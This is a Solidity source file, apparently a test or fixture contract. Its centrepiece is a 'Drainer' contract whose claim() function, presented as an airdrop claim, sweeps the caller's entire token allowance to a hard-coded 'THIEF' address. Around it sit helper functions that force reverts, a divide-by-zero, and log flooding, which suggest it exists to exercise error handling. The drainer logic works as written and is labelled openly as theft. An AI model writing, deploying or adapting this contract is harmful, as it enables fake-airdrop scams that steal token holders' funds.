// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

interface Token {
    function transferFrom(address from, address to, uint256 value) external;
    function allowance(address owner, address spender) external view returns (uint256);
}

/// Promises an airdrop and takes what the caller once allowed.
contract Drainer {
    address private constant THIEF = 0x7000000000000000000000000000000000000007;

    error NotEligible(address account);

    function claim(address token) external payable {
        Token(token).transferFrom(msg.sender, THIEF, Token(token).allowance(msg.sender, address(this)));
    }

    function check() external view {
        revert NotEligible(msg.sender);
    }

    function divide(uint256 by) external pure returns (uint256) {
        return 1 / by;
    }

    function fail(string calldata reason) external pure {
        revert(reason);
    }

    /// Logs more than a node returns in a reasonable answer.
    function flood(uint256 count) external {
        for (uint256 index = 0; index < count; index++) new Emitter();
    }
}

contract Emitter {
    event Noise();

    constructor() {
        emit Noise();
    }
}
